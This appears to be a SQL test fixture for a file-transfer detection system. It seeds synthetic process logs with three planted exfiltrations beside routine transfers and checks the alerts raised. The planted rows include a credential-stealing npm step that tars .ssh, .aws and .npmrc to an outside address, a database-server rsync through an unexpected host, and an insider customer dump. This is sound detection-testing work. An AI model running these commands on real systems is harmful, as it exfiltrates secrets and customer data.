-- Six alerts of a small company, three of them planted: a database server that runs a program of its own, an insider's
-- dump to a private address, and a package that packs keys. Beside them three that are routine and look as bad: a release
-- with a new number, a weekly job to a new address of a known host, and files for a vendor's support.
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
UPDATE rules SET enabled = rule_id = 'unusual-file-transfer-utility-launched';
ALTER TABLE alerts ALTER COLUMN id RESTART;
INSERT INTO fleet_hosts (name, addresses) VALUES ('shop-1', '{10.1.0.7}'), ('data-1', '{10.1.0.8}');

-- one row a process: its parent is the last one before it on the host with that pid, or what "parent" says
CREATE TEMPORARY TABLE ran (at timestamptz, host text, pid bigint, ppid bigint, executable text, line text, by_user text, uid text, parent text, cwd text);
-- 29 days of routine
INSERT INTO ran SELECT '2026-11-19 02:00Z'::timestamptz - d * interval '1 day' + v.off, v.host, v.pid + d * 10, v.ppid, v.executable, replace(v.line, '#', (4000 - d)::text), v.by_user, v.uid, replace(v.parent, '#', (4000 - d)::text), NULL
  FROM generate_series(0, 27) AS d, (VALUES
	(interval '0', 'data-1', 1000, 1, '/usr/bin/bash', '/bin/bash /usr/local/sbin/send-base', 'postgres', '105', '/usr/sbin/cron -f'),
	('1 s', 'data-1', 1001, 1000, '/usr/bin/rsync', 'rsync -a -e ''ssh -p 2200'' /var/base/ keep@store-2:/pool/data-1/', 'postgres', '105', '/bin/bash /usr/local/sbin/send-base'),
	('9 h', 'make-1', 2000, 700, '/usr/bin/python3', 'python3 /home/make/work/rel-#/publish.py', 'make', '1100', 'java -jar /opt/agent.jar'),
	('9 h 1 s', 'make-1', 2001, 2000, '/usr/bin/scp', 'scp -q /home/make/work/rel-#/site-#.tgz up@192.0.2.44:/in/', 'make', '1100', 'python3 /home/make/work/rel-#/publish.py'),
	('16 h', 'data-2', 3000, 800, '/usr/bin/scp', 'scp /var/tmp/schema-#.dump app-3:', 'ruth', '1003', '-bash')) AS v(off, host, pid, ppid, executable, line, by_user, uid, parent);
-- a weekly job to store-1
INSERT INTO ran SELECT '2026-11-20 09:30Z'::timestamptz - w * interval '7 days' + v.off, 'post-1', v.pid + w * 10, v.ppid, v.executable, v.line, 'root', '0', v.parent, NULL
  FROM generate_series(1, 4) AS w, (VALUES (interval '0', 4000, 1, '/usr/bin/bash', '/bin/bash /usr/local/sbin/mail-keep', '/usr/lib/systemd/systemd'),
	('1 s', 4001, 4000, '/usr/bin/rsync', 'rsync -aH /srv/post/ keep@store-1:/pool/post/', '/bin/bash /usr/local/sbin/mail-keep')) AS v(off, pid, ppid, executable, line, parent);
-- a flood of another job, more than the latest starts that any question looks at
INSERT INTO ran SELECT '2026-11-20 08:00Z'::timestamptz - n * interval '1 minute', 'web-' || n % 9, 100000 + n, 1, '/usr/bin/rsync', 'rsync -a /var/out/ logs@log-1:/in/', 'logs', '1200', '/bin/sh /opt/ship', NULL
  FROM generate_series(1, 4000) AS n;
INSERT INTO ran VALUES
	-- store-2 gets an address, and is tried
	('2026-11-16 09:28Z', 'conf-1', 10, 9, '/usr/bin/python3', 'ansible all -m lineinfile -a "path=/etc/hosts line=''10.1.9.41 store-2''"', 'mia', '1001', '-bash', NULL),
	('2026-11-19 15:08Z', 'post-1', 11, 9, '/usr/bin/sudo', 'sudo ssh -p 2200 keep@10.1.9.41 mkdir -p /pool/post', 'root', '0', '-bash', NULL),
	-- somebody else's case at the vendor
	('2026-10-29 17:48Z', 'web-2', 12, 9, '/usr/bin/scp', 'scp -P 2022 /var/tmp/sosreport-web-2-868811.tar.xz case-868811@198.51.100.25:/incoming/', 'dan', '1002', '-bash', NULL),
	-- planted: the database server
	('2026-11-20 08:31Z', 'data-1', 51, 50, '/usr/bin/dash', 'sh -c id', 'postgres', '105', 'postgres: portal portal 10.1.0.7(41822) COPY', NULL),
	('2026-11-20 08:33Z', 'data-1', 52, 50, '/usr/bin/dash', 'sh -c cat /usr/local/sbin/send-base', 'postgres', '105', 'postgres: portal portal 10.1.0.7(41822) COPY', NULL),
	('2026-11-20 09:23:48Z', 'data-1', 53, 50, '/usr/bin/dash', 'sh -c rsync -a -e ''ssh -p 443 -o HostName=203.0.113.80 -o StrictHostKeyChecking=no'' /var/base/ keep@store-2:/pool/data-1/', 'postgres', '105',
		'postgres: portal portal 10.1.0.7(41822) COPY', NULL),
	('2026-11-20 09:23:49Z', 'data-1', 54, 53, '/usr/bin/rsync', 'rsync -a -e ''ssh -p 443 -o HostName=203.0.113.80 -o StrictHostKeyChecking=no'' /var/base/ keep@store-2:/pool/data-1/', 'postgres', '105', NULL, NULL),
	-- routine: a release with a new number
	('2026-11-20 09:43:00Z', 'make-1', 60, 700, '/usr/bin/python3', 'python3 /home/make/work/hot-7b1e9c/publish.py', 'make', '1100', 'java -jar /opt/agent.jar', NULL),
	('2026-11-20 09:43:01Z', 'make-1', 61, 60, '/usr/bin/tar', 'tar czf /home/make/work/hot-7b1e9c/site-7b1e9c.tgz -C /home/make/work/hot-7b1e9c/site .', 'make', '1100', NULL, NULL),
	('2026-11-20 09:43:03Z', 'make-1', 62, 60, '/usr/bin/scp', 'scp -q /home/make/work/hot-7b1e9c/site-7b1e9c.tgz up@192.0.2.44:/in/', 'make', '1100', NULL, NULL),
	('2026-11-20 09:43:09Z', 'make-1', 63, 60, '/usr/bin/rm', 'rm -f /home/make/work/hot-7b1e9c/site-7b1e9c.tgz', 'make', '1100', NULL, NULL),
	-- routine: the weekly job, to the new address
	('2026-11-20 09:30:00Z', 'post-1', 70, 1, '/usr/bin/bash', '/bin/bash /usr/local/sbin/mail-keep', 'root', '0', '/usr/lib/systemd/systemd', NULL),
	('2026-11-20 09:30:01Z', 'post-1', 71, 70, '/usr/bin/rsync', 'rsync -aH -e ''ssh -p 2200 -o StrictHostKeyChecking=accept-new'' /srv/post/ keep@10.1.9.41:/pool/post/', 'root', '0', NULL, NULL),
	-- planted: the insider
	('2026-11-20 09:10:00Z', 'data-2', 80, 800, '/usr/bin/pg_dump', 'pg_dump -Fc -t customers -f /var/tmp/schema-1120.dump crm', 'ruth', '1003', '-bash', NULL),
	('2026-11-20 09:15:00Z', 'data-2', 81, 800, '/usr/bin/scp', 'scp /var/tmp/schema-1120.dump rr@home-box.dyn.example.net:films/', 'ruth', '1003', '-bash', NULL),
	('2026-11-20 09:18:00Z', 'data-2', 82, 800, '/usr/bin/rm', 'rm /var/tmp/schema-1120.dump', 'ruth', '1003', '-bash', NULL),
	-- routine: files for a vendor's support
	('2026-11-20 09:36:00Z', 'app-1', 90, 900, '/usr/bin/xz', 'xz -T2 /var/tmp/sosreport-app-1-871234.tar', 'mia', '1001', '-bash', NULL),
	('2026-11-20 09:37:00Z', 'app-1', 91, 900, '/usr/bin/sha256sum', 'sha256sum /var/tmp/sosreport-app-1-871234.tar.xz', 'mia', '1001', '-bash', NULL),
	('2026-11-20 09:38:00Z', 'app-1', 92, 900, '/usr/bin/scp', 'scp -P 2022 /var/tmp/sosreport-app-1-871234.tar.xz case-871234@198.51.100.25:/incoming/', 'mia', '1001', '-bash', NULL),
	('2026-11-20 09:39:00Z', 'app-1', 93, 900, '/usr/bin/sudo', 'sudo -n rm -f /var/tmp/sosreport-app-1-871234.tar.xz', 'root', '0', '-bash', NULL),
	-- planted: the package
	('2026-11-20 09:06:10Z', 'make-1', 40, 39, '/usr/bin/node', 'npm ci --prefer-offline', 'make', '1100', 'sh -xe /tmp/job.sh', NULL),
	('2026-11-20 09:06:20Z', 'make-1', 41, 40, '/usr/bin/node', 'node lib/check.js', 'make', '1100', NULL, '/home/make/work/rel-4002/node_modules/colour'),
	('2026-11-20 09:06:21Z', 'make-1', 42, 41, '/usr/bin/python3', 'python3 /home/make/work/rel-4002/pack.py', 'make', '1100', NULL, NULL),
	('2026-11-20 09:06:22Z', 'make-1', 43, 42, '/usr/bin/tar', 'tar czf /home/make/work/rel-4002/site-meta.tgz -C /home/make .npmrc .aws .ssh README', 'make', '1100', NULL, NULL),
	('2026-11-20 09:06:23Z', 'make-1', 44, 42, '/usr/bin/scp', 'scp -q -o StrictHostKeyChecking=no /home/make/work/rel-4002/site-meta.tgz up@192.0.2.144:/in/', 'make', '1100', NULL, NULL),
	('2026-11-20 09:06:24Z', 'make-1', 45, 42, '/usr/bin/rm', 'rm -rf /home/make/work/rel-4002/site-meta.tgz /home/make/work/rel-4002/pack.py', 'make', '1100', NULL, NULL);
INSERT INTO events (timestamp, host_os_type, event_type, event_action, agent_id, host_name, user_id, user_name, process_pid, process_name, process_executable,
	process_command_line, process_working_directory, process_parent_pid, process_parent_executable, process_parent_command_line)
SELECT r.at, 'linux', '{start}', '{exec}', 'agent-' || r.host, r.host, r.uid, r.by_user, r.pid, regexp_replace(r.executable, '.*/', ''), r.executable, r.line, r.cwd, r.ppid,
	coalesce(p.executable, CASE WHEN coalesce(r.parent, '') LIKE 'postgres%' THEN '/usr/lib/postgresql/15/bin/postgres' WHEN r.parent = '-bash' THEN '/usr/bin/bash' WHEN r.parent LIKE 'java%' THEN '/usr/bin/java'
		ELSE split_part(r.parent, ' ', 1) END), coalesce(p.line, r.parent)
  FROM ran AS r
  LEFT JOIN LATERAL (SELECT q.* FROM ran AS q WHERE r.parent IS NULL AND q.host = r.host AND q.pid = r.ppid AND q.at <= r.at ORDER BY q.at DESC LIMIT 1) AS p ON true;
ANALYZE events;
SELECT alerts_created FROM run(as_of => '2026-11-20 10:00Z');
CREATE TEMPORARY TABLE known AS
	SELECT a.id, k.name, k.planted, triage(a.id) AS facts
	  FROM alerts AS a
	  JOIN (VALUES ('server', true, 'HostName'), ('release', false, 'hot-7b1e9c'), ('weekly', false, '10.1.9.41'), ('insider', true, 'home-box'), ('vendor', false, '198.51.100.25'), ('package', true, '192.0.2.144')) AS k(name, planted, sign)
		ON position(k.sign IN a.process_command_line) > 0;
SELECT count(*) FROM known;

-- the order in which to work, and that the page has it: planted first
SELECT k.name, k.facts -> 'order' AS working_order FROM known AS k
ORDER BY (k.facts #>> '{order,heavy}')::integer DESC, (k.facts #>> '{order,light}')::integer - (k.facts #>> '{order,usual}')::integer DESC;
SELECT array_agg(k.name ORDER BY p.place) AS page, max(p.place) FILTER (WHERE k.planted) < min(p.place) FILTER (WHERE NOT k.planted) AS planted_first
FROM jsonb_array_elements(period_alerts('2026-11-20 09:00Z', '2026-11-20 10:00Z')) WITH ORDINALITY AS p(value, place) JOIN known AS k ON k.id = (p.value #>> '{alert,id}')::bigint;

-- what is said of each
SELECT k.name, f.mark || said_plain(r.value) AS reason
FROM known AS k, (VALUES (1, 'for', '+ '), (2, 'against', '- ')) AS f(place, field, mark), jsonb_array_elements(k.facts -> f.field) WITH ORDINALITY AS r(value, place)
ORDER BY k.name, f.place, r.place;
SELECT k.name, c.section, c.what FROM known AS k, alert_context(k.id) WITH ORDINALITY AS c(section, at, host, what, detail, place)
WHERE c.section IN ('process', 'differs') AND k.name IN ('server', 'weekly', 'package') ORDER BY k.name, c.place;
-- each answer goes back to where it says: the weekly job's four Fridays lie beyond the latest starts of rsync
SELECT k.name, p.value ->> 'part' AS part, p.value ->> 'earlier' AS earlier, p.value ->> 'earlier_days' AS days, p.value ->> 'since' AS since
FROM known AS k, jsonb_array_elements(k.facts -> 'prevalence') WITH ORDINALITY AS p(value, place) WHERE k.name IN ('weekly', 'release') ORDER BY k.name, p.place;
SELECT k.name, s.value ->> 'step' AS step, s.value ->> 'mark' AS mark, said_plain(s.value -> 'answer') AS answer
FROM known AS k, jsonb_array_elements(k.facts -> 'guide') AS s WHERE (k.name, s.value ->> 'step') IN (('server', '2'), ('vendor', '3'), ('release', '7'), ('weekly', '5'), ('weekly', '7'), ('insider', '6'), ('package', '1')) ORDER BY 1, 2;

-- sentences that would mislead
SELECT k.name, said_plain(r.value) AS misleading
FROM known AS k, jsonb_array_elements((k.facts -> 'for') || (k.facts -> 'against')) AS r
WHERE k.name IN ('server', 'insider', 'package') AND r.value ->> 'say' ~ '^\*(Known user|Known destination|Regular|Scheduled)'
   OR k.name = 'weekly' AND r.value ->> 'say' ~ '^\*(New destination|Own way out|New for this user)'
   OR k.name = 'release' AND r.value ->> 'say' ~ '^\*(New destination|Outside address)';

-- what to do
SELECT k.name, r.action, r.command, r.effect FROM known AS k, response_steps(k.facts) AS r WHERE k.name IN ('server', 'package') ORDER BY k.name, r.step;

-- pieces
SELECT a, b, looks_like(a, b) FROM (VALUES ('203.0.113.44', '203.0.113.144'), ('203.0.113.144', '203.0.113.44'), ('store-1', 'store-2'), ('store-1', 'store-1'), ('203.0.113.44', '203.0.113.55'), ('nas', 'nat')) AS v(a, b);
SELECT c, process_kind(ROW(NULL, NULL, NULL, NULL, 1, NULL, 'sudo', '/usr/bin/sudo', NULL, c, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL)::process) AS kind
FROM unnest(ARRAY['sudo rm -f x', 'sudo -u bob /bin/tar cf x y', 'sudo -n env A=1 xz f', 'nice -n 10 gzip f', 'sudo -i', 'timeout 30s curl http://x']) AS c;
SELECT is_server('nginx: worker process', '/usr/sbin/nginx'), is_server('postgres: a b COPY', NULL), is_server('-bash', '/usr/bin/bash');
ROLLBACK;
